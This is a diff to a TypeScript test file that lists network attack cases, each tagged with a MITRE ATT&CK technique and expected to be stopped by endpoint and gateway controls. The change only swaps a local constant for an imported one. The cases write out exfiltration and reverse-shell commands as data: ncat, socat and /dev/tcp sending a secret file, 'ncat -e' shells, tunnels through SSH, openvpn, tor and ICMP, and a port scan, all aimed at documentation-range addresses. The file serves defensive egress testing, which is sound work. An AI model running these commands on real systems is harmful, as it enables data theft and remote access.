@@ -1,7 +1,6 @@
-import { passes, STOPPED, type Attack } from './attack.ts'
+import { EVERYWHERE, passes, STOPPED, type Attack } from './attack.ts'
 
 const ssh = 'ssh -F ssh.conf'
-const everywhere = { endpoint: STOPPED, gateway: STOPPED, run: STOPPED } as const
 const plain = { says: /hello from/ } as const
 const canary = { says: /^canary$/m } as const
 
@@ -15,7 +14,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'curl -sS -m 5 http://198.51.100.20/',
     through: plain,
     flows: /^198\.51\.100\.20 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1571 Non-Standard Port',
@@ -25,7 +24,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: '(cat secret; sleep 1) | ncat -w 4 allowed.test 4444',
     through: canary,
     flows: /^(198\.51\.100\.10|2001:db8:1::10) 4444$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1059.004 Unix Shell',
@@ -35,7 +34,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: `bash -c 'exec 3<>/dev/tcp/198.51.100.20/4444 && cat secret >&3 && head -n 1 <&3'`,
     through: canary,
     flows: /^198\.51\.100\.20 4444$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1059.004 Unix Shell',
@@ -45,7 +44,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'timeout 3 ncat -e "$PWD/shell" 198.51.100.69 443',
     through: canary,
     flows: /^198\.51\.100\.69 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1095 Non-Application Layer Protocol',
@@ -55,7 +54,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: '(cat secret; sleep 1) | socat -t 1 - TCP4:198.51.100.69:443',
     through: canary,
     flows: /^198\.51\.100\.69 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1572 Protocol Tunneling',
@@ -65,7 +64,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: `${ssh} -p 443 198.51.100.61 cat "$PWD/secret"`,
     through: canary,
     flows: /^198\.51\.100\.61 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1572 Protocol Tunneling',
@@ -76,7 +75,7 @@ export const CONNECTIONS: readonly Attack[] = [
       'openvpn --tls-client --proto tcp-client --remote 198.51.100.62 443 --nobind --dev null --ca cert.pem --cert cert.pem --key key.pem',
     through: { says: /TLS: Initial packet|Peer Connection Initiated/ },
     flows: /^198\.51\.100\.62 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1572 Protocol Tunneling',
@@ -87,7 +86,7 @@ export const CONNECTIONS: readonly Attack[] = [
       'openvpn --tls-client --proto udp --remote 198.51.100.62 443 --nobind --dev null --ca cert.pem --cert cert.pem --key key.pem',
     through: { says: /TLS: Initial packet|Peer Connection Initiated/ },
     flows: /^198\.51\.100\.62 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1573.002 Asymmetric Cryptography',
@@ -97,7 +96,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: `stunnel4 stunnel-client.conf & sleep 0.5; ${ssh} -o ConnectionAttempts=3 -p 8443 127.0.0.1 cat "$PWD/secret"`,
     through: canary,
     flows: /^198\.51\.100\.64 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1090.003 Multi-hop Proxy',
@@ -107,7 +106,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'rm -rf tor-client-data; exec tor -f tor-client',
     through: { says: /handshake_done|onehop_create/ },
     flows: /^198\.51\.100\.63 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1090.002 External Proxy',
@@ -117,7 +116,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: `${ssh} -p 443 -o 'ProxyCommand proxytunnel -q -p 198.51.100.65:8080 -d %h:%p' 198.51.100.61 cat "$PWD/secret"`,
     through: canary,
     flows: /^198\.51\.100\.65 8080$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1090.001 Internal Proxy',
@@ -128,7 +127,7 @@ export const CONNECTIONS: readonly Attack[] = [
       'socat TCP4-LISTEN:8899,bind=127.0.0.1,reuseaddr,fork TCP4:198.51.100.20:80 & sleep 0.3; curl -sS -m 5 http://127.0.0.1:8899/; kill $!',
     through: plain,
     flows: /^198\.51\.100\.20 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol',
@@ -138,7 +137,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'curl -sS -m 5 smtp://198.51.100.67:587 --mail-from a@test --mail-rcpt b@test -T secret && echo canary',
     through: canary,
     flows: /^198\.51\.100\.67 587$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol',
@@ -148,7 +147,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'curl -sS -m 5 ftp://198.51.100.67/secret',
     through: canary,
     flows: /^198\.51\.100\.67 21$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1021.002 SMB/Windows Admin Shares',
@@ -158,7 +157,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'curl -sS -m 2 -u a:b smb://198.51.100.20/share/secret',
     through: { arrives: 'tcp 198.51.100.20 445' },
     flows: /^198\.51\.100\.20 445$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.005 Publish/Subscribe Protocols',
@@ -168,7 +167,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'curl -sS -m 2 mqtt://198.51.100.20/x',
     through: { arrives: 'tcp 198.51.100.20 1883' },
     flows: /^198\.51\.100\.20 1883$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1046 Network Service Discovery',
@@ -180,7 +179,7 @@ export const CONNECTIONS: readonly Attack[] = [
     // Port 80 is one that a name could open, which an ordinary user's run knows later than others.
     flows: /^198\.51\.100\.20 (?!80)\d\d$/,
     told: 'many-refusals',
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1095 Non-Application Layer Protocol',
@@ -190,7 +189,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'socat -t 1 - UDP4-DATAGRAM:198.51.100.20:7000 <secret',
     through: canary,
     flows: /^198\.51\.100\.20 7000$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1095 Non-Application Layer Protocol',
@@ -200,7 +199,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'hping3 -S -p 80 -c 1 198.51.100.50',
     through: { says: /flags=SA/ },
     flows: /^198\.51\.100\.50 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1095 Non-Application Layer Protocol',
@@ -210,7 +209,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'hping3 --icmp -d 64 -E secret -c 1 198.51.100.20',
     through: { says: /icmp_seq=0/ },
     flows: /^198\.51\.100\.20 (0|null|8)$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1572 Protocol Tunneling',
@@ -220,7 +219,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: `ptunnel-ng -p 198.51.100.10 -l 8022 -r198.51.100.10 -R22 & sleep 0.5; ${ssh} -o ConnectionAttempts=3 -p 8022 127.0.0.1 cat "$PWD/secret"`,
     through: canary,
     flows: /^198\.51\.100\.10 (0|null|8)$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1095 Non-Application Layer Protocol',
@@ -245,7 +244,7 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: 'head -c 3000000 /dev/zero | curl -sS -m 5 --data-binary @- http://198.51.100.20/',
     through: { says: /^3000000$/m },
     flows: /^198\.51\.100\.20 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1030 Data Transfer Size Limits',
@@ -255,6 +254,6 @@ export const CONNECTIONS: readonly Attack[] = [
     attempt: `for piece in $(seq 15); do head -c 100000 /dev/zero | curl -sS -m 5 --data-binary @- http://198.51.100.10/ || break; done | grep -c 100000`,
     through: { says: /^15$/m },
     flows: /^198\.51\.100\.10 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
 ]
